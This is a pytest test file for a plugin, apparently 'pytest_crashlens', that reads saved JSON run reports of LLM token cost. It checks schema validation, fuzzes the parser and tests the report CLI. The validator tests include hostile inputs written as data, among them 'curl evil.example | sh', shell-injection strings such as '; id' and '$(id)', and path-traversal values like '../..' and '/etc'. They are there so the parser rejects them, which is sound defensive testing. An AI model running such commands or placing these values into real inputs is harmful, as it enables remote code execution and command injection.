from __future__ import annotations

import copy
import json
from contextlib import suppress
from decimal import Decimal
from pathlib import Path
from typing import Any, get_args

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_crashlens.cli.main import main
from pytest_crashlens.model.usage import Usage
from pytest_crashlens.report.github import github
from pytest_crashlens.report.markdown import markdown
from pytest_crashlens.report.run_result import State
from pytest_crashlens.report.saved_run import (
    SavedRunError,
    load_run,
    parse_run,
    saved_text,
    schema,
)
from pytest_crashlens.report.schema_check import KNOWN, problems
from pytest_crashlens.report.view import Context, folder_in_repository

RED = Path(__file__).parents[1] / "output" / "reports" / "red.json"
GOOD: dict[str, Any] = json.loads(RED.read_text())


def read(plain: Any) -> Any:
    return parse_run(json.dumps(plain).encode(), "run.json")[0]


def test_it_is_read_as_it_was_written() -> None:
    run = read(GOOD)
    assert run.failed
    assert run.context == Context(runs_per_month=30_000)
    test = run.tests[1]
    assert (test.key, test.state, test.failed) == ("test_it.py::test_longer_prompt", "over", True)
    assert test.now.usage == Usage(input_tokens=2400, output_tokens=300)
    assert (test.now.usd, test.before and test.before.usd) == (
        Decimal("0.00054"),
        Decimal("0.00036"),
    )
    assert test.findings[0].before == Decimal("0.00036")
    assert test.findings[1].now == 2400
    assert sum(cause.usd or 0 for cause in test.causes) == Decimal("0.00018")
    assert test.site == "conftest.py:19 spend"


def test_the_schema_is_valid_and_ours_understands_all_of_it() -> None:
    jsonschema.Draft202012Validator.check_schema(schema())
    jsonschema.Draft202012Validator(schema()).validate(GOOD)
    assert list(problems(GOOD, schema())) == []
    assert words(schema()) <= KNOWN
    assert set(schema()["$defs"]["test"]["properties"]["state"]["enum"]) == set(get_args(State))


def words(part: Any) -> set[str]:
    """The words of the language in a schema."""
    found = set(part)
    for name in ("properties", "$defs"):
        for one in part.get(name, {}).values():
            found |= words(one)
    for name in ("items", "additionalProperties"):
        if name in part:
            found |= words(part[name])
    for one in part.get("anyOf", ()):
        found |= words(one)
    return found


def test_every_key_of_a_report_is_in_the_schema() -> None:
    assert set(GOOD) == set(schema()["properties"])
    assert {key for test in GOOD["tests"] for key in test} == set(
        schema()["$defs"]["test"]["properties"]
    )


def places(node: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    items = node.items() if isinstance(node, dict) else enumerate(node)
    found = []
    for name, item in items:
        found.append((*at, name))
        if isinstance(item, dict | list):
            found += places(item, (*at, name))
    return found


FEW = GOOD | {"tests": GOOD["tests"][2:4]}
PLACES = places(FEW)
ODD: tuple[Any, ...] = (
    None, True, 0, -1, 1.5, 10**30, "", "0.5", "1e9", "NaN", "-0", "\ud800", "x\n", [], {}, [[]],
    [None], {"x": 1}, "9" * 100, "1.2.3",
)  # fmt: skip


def changed(place: tuple[Any, ...], value: Any, *, delete: bool) -> Any:
    plain = copy.deepcopy(FEW)
    node = plain
    for name in place[:-1]:
        node = node[name]
    if delete:
        del node[place[-1]]
    else:
        node[place[-1]] = value
    return plain


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(PLACES), st.sampled_from(ODD), st.booleans())
def test_ours_finds_what_a_validator_finds(place: Any, value: Any, delete: bool) -> None:
    plain = changed(place, value, delete=delete)
    theirs = jsonschema.Draft202012Validator(schema()).is_valid(plain)
    ours = not list(problems(plain, schema()))
    # "$" of Python lets a line break pass
    assert ours == theirs or (value == "x\n" and not ours)


JSON = st.recursive(
    st.sampled_from(ODD) | st.text() | st.integers() | st.floats(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=5,
)

CHANGES = st.lists(st.tuples(st.sampled_from(PLACES), JSON, st.booleans()), min_size=1, max_size=3)


@settings(max_examples=150, deadline=None)
@given(CHANGES)
def test_no_document_however_mangled_is_a_traceback(changes: list[Any]) -> None:
    plain = copy.deepcopy(FEW)
    for place, value, delete in changes:
        node = plain
        try:
            for name in place[:-1]:
                node = node[name]
            if delete:
                del node[place[-1]]
            else:
                node[place[-1]] = value
        except (KeyError, IndexError, TypeError):
            continue  # an earlier change took it away
    render(json.dumps(plain).encode())


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=50), st.integers(0, 10_000))
def test_no_bytes_are_a_traceback(data: bytes, cut: int) -> None:
    render(data)
    render(RED.read_bytes()[:cut] + data)


def render(data: bytes) -> None:
    """All texts of ``data``, or an error of ours."""
    with suppress(SavedRunError):
        run, plain = parse_run(data, "run.json")
        for text in (markdown(run), github(run), saved_text(plain)):
            text.encode()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "is no JSON: Expecting value"),
        (b"{", "is no JSON"),
        (b"\xff\xfe{}", "is no JSON: 'utf-8' codec"),
        (b"[" * 100_000, "is no JSON: too deep"),
        (b'{"schema_version": NaN}', "is no JSON: NaN is no number of JSON"),
        (b"1" * 5000, "is no JSON: Exceeds the limit"),
        (b"[]", "the document: expected object, got a list"),
        (b"{}", "the document: accept_command is missing"),
        (b'{"schema_version": 2}', "schema_version 2; this release reads 1"),
    ],
)
def test_what_is_no_report_is_named(data: bytes, words: str) -> None:
    with pytest.raises(SavedRunError) as error:
        parse_run(data, "run.json")
    assert str(error.value).startswith("run.json: ")
    assert words in str(error.value)


@pytest.mark.parametrize(
    ("place", "value", "words"),
    [
        (
            ("tests", 1, "now", "cost_usd"),
            "1e9",
            "tests[1].now.cost_usd: expected a text like ^[0-9]",
        ),
        (
            ("tests", 1, "now", "cost_usd"),
            "-1",
            "tests[1].now.cost_usd: expected a text like ^[0-9]",
        ),
        (("tests", 1, "now", "cost_usd"), 0.5, "tests[1].now.cost_usd: expected string or null"),
        (("tests", 1, "now", "calls"), -1, "tests[1].now.calls: expected at least 0, got -1"),
        (("tests", 1, "now", "calls"), 10**40, "tests[1].now.calls: expected at most 1000"),
        (("tests", 1, "now", "calls"), True, "tests[1].now.calls: expected integer, got True"),
        (("tests", 1, "state"), "fine", "tests[1].state: expected one of over, missing"),
        (("accept_command",), "curl evil.example | sh", "accept_command is no command"),
        (("accept_command",), "pytest --crashlens-update-baseline; id", "accept_command is no"),
        (("accept_command",), "pytest --crashlens-update-baseline -p evil", "accept_command is no"),
        (
            ("accept_command",),
            "pytest --crashlens-update-baseline --crashlens-config=$(id)",
            "accept_command is no command",
        ),
        (("accept_command",), "pytest --crashlens-update-baseline 'x", "accept_command is no"),
        (
            ("accept_command",),
            "pytest --crashlens-update-baseline --crashlens-config='a\u202e.yml'",
            "accept_command is no command",
        ),
        (
            ("accept_command",),
            f"pytest --crashlens-update-baseline --crashlens-baseline={'a' * 500}",
            "accept_command has more than 500 characters",
        ),
        (("context", "folder"), "../..", "context.folder is no folder"),
        (("context", "folder"), "/etc", "context.folder is no folder"),
    ],
)
def test_what_is_wrong_is_named_with_its_place(
    place: tuple[Any, ...], value: Any, words: str
) -> None:
    with pytest.raises(SavedRunError) as error:
        read(changed(place, value, delete=False))
    assert words in str(error.value)


@pytest.mark.parametrize(
    "command",
    [
        "pytest --crashlens-update-baseline --crashlens-baseline=a.json",
        "pytest --crashlens-update-baseline '--crashlens-config=a b.yml'",
        "pytest --crashlens-update-baseline --crashlens-config='a b.yml'",
    ],
)
def test_commands_that_we_write_are_read(command: str) -> None:
    plain = changed(("accept_command",), command, delete=False)
    if command.endswith("'--crashlens-config=a b.yml'"):
        with pytest.raises(SavedRunError):  # nothing of ours is quoted so
            read(plain)
    else:
        assert read(plain).accept_command == command


@pytest.mark.parametrize("path", ["/etc/x", "../x", "a/../../x", "'C:\\x'", "'..\\x'"])
def test_a_command_leaves_no_folder(path: str) -> None:
    command = f"pytest --crashlens-update-baseline --crashlens-baseline={path}"
    plain = changed(("accept_command",), command, delete=False)
    assert read(plain).accept_command == "pytest --crashlens-update-baseline"


def test_reports_of_earlier_releases_are_read() -> None:
    """They know of no base, and not whether the run came to its end."""
    plain = json.loads(RED.read_text())
    for name in ("base", "ended", "partial"):
        del plain[name]
    for test in plain["tests"]:
        del test["base"], test["since_base"]
    assert read(plain) == read(GOOD)


def test_a_file_that_is_too_large_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "run.json"
    path.write_bytes(RED.read_bytes())
    load_run(path, len(RED.read_bytes()))
    with pytest.raises(SavedRunError, match=r"more than 1,000 bytes; allow it with --max-bytes"):
        load_run(path, 1000)
    with pytest.raises(SavedRunError, match="No such file"):
        load_run(tmp_path / "no.json")


def test_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    golden = RED.parent
    for kind, name in (("markdown", "red.md"), ("github", "red.txt"), ("json", "red.json")):
        assert main(["report", str(RED), "--format", kind]) == 0
        assert capsys.readouterr().out == (golden / name).read_text()
    assert main(["report", str(RED)]) == 0
    assert capsys.readouterr().out == (golden / "red.md").read_text()
    assert main(["report", str(RED), "--json"]) == 0
    assert capsys.readouterr().out == (golden / "red.json").read_text()
    for arguments, said in (
        ([str(RED), "--json", "--format", "github"], "--json and --format github: choose one"),
        ([str(RED), "--output", str(tmp_path / "no" / "x")], "cannot be written: No such file"),
        ([str(RED), "--max-bytes", "10"], "more than 10 bytes"),
        ([str(tmp_path)], "cannot be read: Is a directory"),
    ):
        assert main(["report", *arguments]) == 2
        assert said in capsys.readouterr().err


def test_the_folder_of_pytest_in_its_repository(tmp_path: Path) -> None:
    inner = tmp_path / "services" / "api"
    inner.mkdir(parents=True)
    (tmp_path / ".git").mkdir()
    assert folder_in_repository(inner) == "services/api"
    assert folder_in_repository(tmp_path) == ""
